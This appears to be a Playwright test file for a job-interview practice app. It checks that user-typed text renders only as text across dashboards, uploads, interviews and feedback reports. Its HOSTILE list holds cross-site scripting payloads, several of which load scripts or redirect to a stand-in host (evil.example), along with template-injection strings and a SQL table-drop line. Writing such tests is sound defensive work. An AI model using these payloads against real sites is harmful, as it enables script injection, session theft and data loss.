"""What a person types is text on every page that shows it, whatever it looks like."""

import httpx
from playwright.sync_api import expect

from tests.browser.visitor import Visitor, words_of
from tests.clients import client, create

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<a href="javascript:alert(1)">here</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><button>Start: add your CV</button></form>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "` onfocus=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% debug %}",
    "${alert(1)}#{alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<div hx-get="/dashboard" hx-trigger="load">',
    '<div hx-on:click="alert(1)" hx-vals="js:{x:alert(1)}">',
    '<hx-partial hx-target="#main"><h1>Mine</h1></hx-partial>',
    "\N{RIGHT-TO-LEFT OVERRIDE}<b>' OR 1=1; drop table sessions; --",
)
SHOWN = 5  # sessions on one dashboard


def test_the_cards_show_it_as_text(visitor: Visitor) -> None:
    for start in range(0, len(HOSTILE), SHOWN):
        some = HOSTILE[start : start + SHOWN]
        with client(visitor.server.url) as owner:
            for text in some:
                create(owner, job_title=text, company_name=text)
            visitor.is_now(owner)
        visitor.open_dashboard()
        newest_first = list(reversed(some))
        assert visitor.page.locator("h2 bdi").all_text_contents() == newest_first
        assert visitor.page.locator(".origin bdi").all_text_contents() == newest_first


def test_the_documents_page_shows_it_as_text(visitor: Visitor) -> None:
    pairs = list(zip(HOSTILE[::2], HOSTILE[1::2], strict=True))
    with client(visitor.server.url) as owner:
        made = [create(owner, job_title=title, company_name=company) for title, company in pairs]
        visitor.is_now(owner)
    for number, pair in zip(made, pairs, strict=True):
        visitor.open(f"/session/{number}/upload")
        assert visitor.page.locator(".lead bdi").all_text_contents() == list(pair)


def test_the_form_gives_it_back_as_it_was_typed(visitor: Visitor) -> None:
    visitor.watch.allow("status of 400")
    visitor.open("/")
    for text in HOSTILE:
        visitor.job_title.fill(text)
        visitor.company.fill(" ")
        with visitor.page.expect_response("**/session/create"):
            visitor.start()
        expect(visitor.company).to_be_focused()
        expect(visitor.company).to_have_value("")
        expect(visitor.job_title).to_have_value(text)


def test_the_documents_and_the_report_show_it_as_text(visitor: Visitor) -> None:
    with client(visitor.server.url, "api") as owner:
        path = f"/session/{hostile_interview(owner)}"
        stored = owner.get(f"{path}/upload").json()
        said = owner.get(f"{path}/interview").json()["conversation"]
        visitor.is_now(owner)
    cv, job = stored["cv_text"], stored["job_description_text"]
    visitor.open(f"{path}/upload")
    visitor.unfold()
    expect(visitor.page.get_by_label("Saved text of your CV")).to_have_value(cv)
    expect(visitor.page.get_by_label("Job description text")).to_have_value(job)
    assert "<img src=x onerror=alert(1)>" in visitor.page.locator("#cv bdi").inner_text()
    visitor.open(f"{path}/interview")
    visitor.unfold()
    shown = visitor.page.locator(".conversation p").all_text_contents()
    assert shown == [message["content"] for message in said]
    visitor.open(f"{path}/feedback")
    visitor.unfold()
    lines = [*cv.split("\n"), *job.split("\n")]
    assert visitor.page.locator(".report-sources li").all_text_contents() == lines
    answers = [words_of(each) for each in visitor.page.locator(".judged-answers .answered").all()]
    assert answers == [message["content"] for message in said if message["role"] == "user"]


def hostile_interview(owner: httpx.Client) -> int:
    """The id of a completed session whose file name, documents and answers are all hostile."""
    session_id = create(owner, job_title=HOSTILE[0], company_name=HOSTILE[3])
    path = f"/session/{session_id}"
    file = ("<img src=x onerror=alert(1)>.txt", "\n".join(HOSTILE).encode())
    owner.post(f"{path}/upload-cv", files={"cv_file": file})
    owner.post(f"{path}/upload-job", data={"job_description": "\n".join(HOSTILE)})
    for start in range(0, len(HOSTILE), SHOWN):
        owner.post(f"{path}/message", data={"answer": "\n".join(HOSTILE[start : start + SHOWN])})
    owner.post(f"{path}/complete")
    return session_id
